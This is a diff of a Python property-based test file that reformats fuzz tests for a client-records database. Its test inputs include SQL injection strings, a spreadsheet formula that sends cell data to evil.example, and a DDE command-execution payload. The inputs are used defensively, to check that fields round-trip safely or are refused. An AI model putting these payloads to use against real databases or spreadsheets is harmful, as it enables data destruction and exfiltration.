@@ -53,13 +53,58 @@ ATTACHED_FIELDS = {
 ALL_FIELDS = {**CLIENT_FIELDS, **ATTACHED_FIELDS}
 
 NASTY = [
-    "", " ", "\u200e", "\u200f", "\u200c", "\u200d", "\ufeff", "\u202e", "\u2066x\u2069",
-    "'); DROP TABLE clients;--", "Robert'); DROP TABLE clients; --", "1' OR '1'='1",
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "+SUM(A1:A9)", "-2+3",
-    "@cmd", "=cmd|' /C calc'!A0", "\x00", "a\x00b", "\t", "\r\n", "\n\n\n", "\x1b[31m", "\x7f",
-    "😀", "👩🏽‍🦰", "🇮🇷🇵🇱", "ﷺ", "ß", "İ", "ǅ", "Ｚｏｌｗ", "%", "_", "\\", '"', "'", "`",
-    "\u0085", "\u2028", "\u00a0", "\u3000", "e\u0301", "\U0010ffff", "\ufffd", "\ufffe",
-    "مریم", "علي", "Żółw", "x@y.zz", "a.b@c.d.ee",
+    "",
+    " ",
+    "\u200e",
+    "\u200f",
+    "\u200c",
+    "\u200d",
+    "\ufeff",
+    "\u202e",
+    "\u2066x\u2069",
+    "'); DROP TABLE clients;--",
+    "Robert'); DROP TABLE clients; --",
+    "1' OR '1'='1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=1+2",
+    "+SUM(A1:A9)",
+    "-2+3",
+    "@cmd",
+    "=cmd|' /C calc'!A0",
+    "\x00",
+    "a\x00b",
+    "\t",
+    "\r\n",
+    "\n\n\n",
+    "\x1b[31m",
+    "\x7f",
+    "😀",
+    "👩🏽‍🦰",
+    "🇮🇷🇵🇱",
+    "ﷺ",
+    "ß",
+    "İ",
+    "ǅ",
+    "Ｚｏｌｗ",
+    "%",
+    "_",
+    "\\",
+    '"',
+    "'",
+    "`",
+    "\u0085",
+    "\u2028",
+    "\u00a0",
+    "\u3000",
+    "e\u0301",
+    "\U0010ffff",
+    "\ufffd",
+    "\ufffe",
+    "مریم",
+    "علي",
+    "Żółw",
+    "x@y.zz",
+    "a.b@c.d.ee",
 ]
 
 # Any Unicode including lone surrogates and controls, mixed with the marks above.
@@ -69,15 +114,23 @@ chars = st.one_of(
     st.sampled_from("\u200e\u200f\u200c\x00 \t\n"),
 )
 short_text = st.text(chars, max_size=60)
-long_text = st.builds(lambda s, n: (s * n)[:10_000], st.text(chars, min_size=1, max_size=30),
-                      st.integers(1, 10_000))
-mixed = st.builds(lambda parts: "".join(parts),
-                  st.lists(st.one_of(st.sampled_from(NASTY), short_text), max_size=6))
+long_text = st.builds(
+    lambda s, n: (s * n)[:10_000], st.text(chars, min_size=1, max_size=30), st.integers(1, 10_000)
+)
+mixed = st.builds(
+    lambda parts: "".join(parts),
+    st.lists(st.one_of(st.sampled_from(NASTY), short_text), max_size=6),
+)
 emails = st.builds(lambda a, b, c: f"{a}@{b}.{c}", short_text, short_text, short_text)
 TEXT = st.one_of(st.sampled_from(NASTY), short_text, mixed, long_text, emails)
 
-PROPS = settings(suppress_health_check=[HealthCheck.function_scoped_fixture,
-                                        HealthCheck.too_slow, HealthCheck.data_too_large])
+PROPS = settings(
+    suppress_health_check=[
+        HealthCheck.function_scoped_fixture,
+        HealthCheck.too_slow,
+        HealthCheck.data_too_large,
+    ]
+)
 
 
 class World:
@@ -90,8 +143,10 @@ class World:
         self.photo.write_bytes(b"\xff\xd8\xff")
 
     def counts(self) -> dict:
-        return {m.__tablename__: row_count(self.ctx, m)
-                for m in (Client, ClientPhone, ClientTag, ColourFormula, ClientPhoto, AuditEntry)}
+        return {
+            m.__tablename__: row_count(self.ctx, m)
+            for m in (Client, ClientPhone, ClientTag, ColourFormula, ClientPhoto, AuditEntry)
+        }
 
 
 @pytest.fixture
@@ -136,8 +191,7 @@ def put(world: World, field: str, value: str, op: str):
         fid = ctx.clients.add_formula(world.base_id, TODAY, value, None, None)
         return next(f.formula for f in ctx.clients.get(world.base_id).formulas if f.id == fid)
     if field == "photo_note":
-        pid = ctx.clients.add_photo(world.base_id, world.photo, PhotoKind.AFTER, TODAY, value,
-                                    None)
+        pid = ctx.clients.add_photo(world.base_id, world.photo, PhotoKind.AFTER, TODAY, value, None)
         return next(p.note for p in ctx.clients.get(world.base_id).photos if p.id == pid)
     draft = draft_with(field, value)
     if op == "create":
@@ -145,8 +199,12 @@ def put(world: World, field: str, value: str, op: str):
     else:
         cid = world.base_id
         current = ctx.clients.get(cid)
-        ctx.clients.update(cid, dataclasses.replace(draft, first_name=draft.first_name),
-                           None, expected_version=current.version)
+        ctx.clients.update(
+            cid,
+            dataclasses.replace(draft, first_name=draft.first_name),
+            None,
+            expected_version=current.version,
+        )
     return read_back(ctx.clients.get(cid), field)
 
 
@@ -170,11 +228,12 @@ def check_round_trip(world: World, field: str, value: str, op: str) -> None:
 
 
 @PROPS
-@given(field=st.sampled_from(sorted(ALL_FIELDS)), value=TEXT,
-       op=st.sampled_from(["create", "update"]))
+@given(
+    field=st.sampled_from(sorted(ALL_FIELDS)), value=TEXT, op=st.sampled_from(["create", "update"])
+)
 @example(field="notes", value="'); DROP TABLE clients;--", op="create")
 @example(field="first_name", value="\u200fمریم\u200c", op="create")
-@example(field="address", value="=HYPERLINK(\"http://x\",\"y\")", op="update")
+@example(field="address", value='=HYPERLINK("http://x","y")', op="update")
 @example(field="first_name", value="ﷺ" * 200, op="create")
 @example(field="notes", value="😀" * 10_000, op="create")
 @example(field="tags", value="\x00", op="create")
@@ -183,8 +242,12 @@ def test_every_text_field_reads_back_or_is_refused(world, field, value, op):
 
 
 @PROPS
-@given(field=st.sampled_from(sorted(ALL_FIELDS)), before=TEXT, after=TEXT,
-       op=st.sampled_from(["create", "update"]))
+@given(
+    field=st.sampled_from(sorted(ALL_FIELDS)),
+    before=TEXT,
+    after=TEXT,
+    op=st.sampled_from(["create", "update"]),
+)
 def test_nul_is_always_refused(world, field, before, after, op):
     value = f"{before}\x00{after}"
     before_counts = world.counts()
@@ -200,8 +263,9 @@ def test_accepted_names_are_found_by_search(world, first, last):
     """A stored name never breaks search, and its folded words find it again."""
     ctx = world.ctx
     try:
-        cid = ctx.clients.create(ClientDraft(first_name=first, last_name=last), None,
-                                 allow_duplicate=True)
+        cid = ctx.clients.create(
+            ClientDraft(first_name=first, last_name=last), None, allow_duplicate=True
+        )
     except ValidationError as err:
         assert {e.field for e in err.errors} <= {"first_name", "last_name"}
         return
